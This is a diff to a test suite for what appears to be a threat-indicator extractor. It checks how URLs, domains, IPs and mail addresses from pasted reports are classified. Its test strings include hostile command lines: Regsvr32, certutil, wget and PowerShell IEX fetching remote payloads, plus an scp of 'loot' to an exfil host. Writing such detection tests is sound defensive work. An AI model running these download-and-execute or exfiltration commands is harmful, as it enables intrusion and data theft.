@@ -389,17 +389,21 @@ suite('scanText: pasted API output, detection content and mail headers', () => {
 			'C2: update-cdn[.]top',
 			'certutil.exe -urlcache -split -f http://files.xred-update.site/load.exe %TEMP%\\load.exe',
 			'wget http://dl.kinsing-mirror.xyz/kinsing -O /tmp/kinsing',
+			'Regsvr32 /s /n /u /i:http://evil185.com/file.sct scrobj.dll',
 			'IEX (New-Object Net.WebClient).DownloadString("https://evil-ps.top/a.ps1")',
 			'"pattern": "[url:value = \'https://files.dropmefiles.top/d/abc123\']"',
 			'$u = "http://moolin.ru/index.php?id="',
 			"c-uri|contains: 'https://paste-bin-raw.xyz/raw/'",
 			'<Content type="string">http://apt-c2-live.net/index.asp</Content>',
 			'Read https://blog.vendor-research.com/post and the PHP manual https://docs.evil-free.org/x',
+			'- Certutil (LOLBAS): https://lolbas-project.github.io/lolbas/Binaries/Certutil/',
+			'See the curl manual at https://curl.se/docs/manpage.html',
 		].join('\n');
 		assert.deepEqual(roles(text), [
 			'indicator update-cdn.top',
 			'indicator http://files.xred-update.site/load.exe',
 			'indicator http://dl.kinsing-mirror.xyz/kinsing',
+			'indicator http://evil185.com/file.sct',
 			'indicator https://evil-ps.top/a.ps1',
 			'indicator https://files.dropmefiles.top/d/abc123',
 			'indicator http://moolin.ru/index.php?id=',
@@ -407,6 +411,14 @@ suite('scanText: pasted API output, detection content and mail headers', () => {
 			'indicator http://apt-c2-live.net/index.asp',
 			'reference https://blog.vendor-research.com/post',
 			'reference https://docs.evil-free.org/x',
+			'reference https://lolbas-project.github.io/lolbas/Binaries/Certutil/',
+			'reference https://curl.se/docs/manpage.html',
+		]);
+	});
+	test("a value written with JSON's escaped slashes does not make a report that defangs nothing cite its live links", () => {
+		assert.deepEqual(roles('Payload: https://files-share.xyz/a.zip\nConfig: {"c2":"http:\\/\\/103.145.13.92\\/bins\\/mozi.m"}'), [
+			'indicator https://files-share.xyz/a.zip',
+			'indicator http://103.145.13.92/bins/mozi.m',
 		]);
 	});
 	test("a mail header's message ids are no mailboxes; its senders are", () => {
@@ -418,12 +430,13 @@ suite('scanText: pasted API output, detection content and mail headers', () => {
 		].join('\n');
 		assert.deepEqual(found(text), ['email bob@evilsender.top']);
 	});
-	test('a login with ssh or scp names the server, no mailbox', () => {
-		assert.deepEqual(found('ssh -i key admin@jump.evil-ssh.top\nscp loot.tgz root@exfil.evil-ssh.top:/tmp/\nmail admin@evil-ssh.top'), [
+	test('a login with ssh or scp names the server, no mailbox; prose naming SSH before an address does not', () => {
+		assert.deepEqual(found('ssh -i key admin@jump.evil-ssh.top\n$ scp loot.tgz root@exfil.evil-ssh.top:/tmp/\nmail admin@evil-ssh.top'), [
 			'domain jump.evil-ssh.top',
 			'domain exfil.evil-ssh.top',
 			'email admin@evil-ssh.top',
 		]);
+		assert.deepEqual(found('The script harvested SSH credentials and mailed them to k3rn3l.dump@gmail.com'), ['email k3rn3l.dump@gmail.com']);
 	});
 	test("databases' connection strings are links", () => {
 		assert.deepEqual(found('postgres://admin:pw@db.evil-pg.top:5432/loot mongodb+srv://u:p@cluster0.evil-mongo.top/x'), [
@@ -471,10 +484,21 @@ suite('scanText: values that are no indicators', () => {
 		const text = [
 			'host.id process.name process.parent.name dns.question.name user.name file.name cloud.account.name',
 			'(http.host; content:"a"; file.name; ssh.software; file.data; dns.query.name;)',
-			'System.Net, System.IO, System.Security, self.name, args.host, location.host, $wc.download',
+			'System.Net, System.IO, System.Security, $wc.download',
 			'exfiltrated to file.io, C2 at evil.name and update.host-cdn.site',
 		].join('\n');
 		assert.deepEqual(found(text), ['domain file.io', 'domain evil.name', 'domain update.host-cdn.site']);
+	});
+	test('live domains that merely start like a field or a namespace stay domains', () => {
+		assert.deepEqual(found('C2 domains: file.dropbox-sync.site, cloud.msft-auth.host, server.unpad.ac.id, cloud.host, system.ink, identity.icu, eval.top'), [
+			'domain file.dropbox-sync.site',
+			'domain cloud.msft-auth.host',
+			'domain server.unpad.ac.id',
+			'domain cloud.host',
+			'domain system.ink',
+			'domain identity.icu',
+			'domain eval.top',
+		]);
 	});
 	test("a Windows prefetch file's name is no domain in French Polynesia", () => {
 		assert.deepEqual(found('Prefetch RCLONE.EXE-2B4E3F1A.pf and MIMIKATZ.EXE-599C44B5.pf; C2 evil-site.pf'), ['domain evil-site.pf']);
@@ -485,8 +509,10 @@ suite('scanText: values that are no indicators', () => {
 			'受影响版本：1.2.3.4 バージョン 9.12.4.62 Dokumentversion 1.0.0.3',
 			'Kapitel 4.1.2.3, Abschnitt 3.2.1.4, chapter 8.3.1.1, appendix 8.3.1.5, EKU: 1.3.6.1, OID 2.5.29.37',
 			'C2 at 45.9.148.80 and a table of 45.9.148.81',
+			// A section word and a colon head a list of addresses.
+			'IOC Appendix: 45.9.1.2, 45.9.1.3; Figure: 45.9.1.4 hosting the team server',
 		].join('\n');
-		assert.deepEqual(found(text), ['ipv4 45.9.148.80', 'ipv4 45.9.148.81']);
+		assert.deepEqual(found(text), ['ipv4 45.9.148.80', 'ipv4 45.9.148.81', 'ipv4 45.9.1.2', 'ipv4 45.9.1.3', 'ipv4 45.9.1.4']);
 	});
 	test("registrars, their name servers and privacy services in a WHOIS record are cited, not hunted", () => {
 		const text = [
